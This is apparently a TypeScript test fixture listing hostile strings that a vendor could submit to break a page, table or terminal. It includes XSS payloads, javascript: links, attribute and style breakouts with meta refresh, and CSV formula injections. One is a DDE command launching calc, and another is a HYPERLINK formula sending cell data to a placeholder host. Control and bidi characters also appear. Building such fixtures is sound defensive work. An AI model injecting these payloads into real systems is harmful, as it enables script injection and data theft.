/** What a vendor may write to break a page, a table or a reader's eyes. */
export const hostileText = {
  script: '<script>globalThis.broken = true</script><img src=x onerror="globalThis.broken=true">',
  link: 'javascript:globalThis.broken=true',
  markdown: '[klik](javascript:alert(1)) <a href="https://example.invalid/">klik</a>',
  attribute: '"onmouseover="globalThis.broken=true" autofocus onfocus="globalThis.broken=true',
  style: '</style></title><style>body{display:none}</style><meta http-equiv=refresh content=0>',
  formula: '=HYPERLINK("https://example.invalid/?x="&A1;"klik")',
  plus: "+cmd|' /C calc'!A0",
  wide: '\uFF1D1+1',
  blank: ' \t=1+1',
  control: 'bi\u0000pper\u0007 og \u001B[31mfarver\u009B',
  bidi: 'godkendt \u202Etkivfa\u202C \u2066skjult\u2069',
  long: `Langt svar: ${'meget lang tekst uden ende '.repeat(800)}`.slice(0, 20_000),
  unbroken: 'x'.repeat(3000),
} as const;
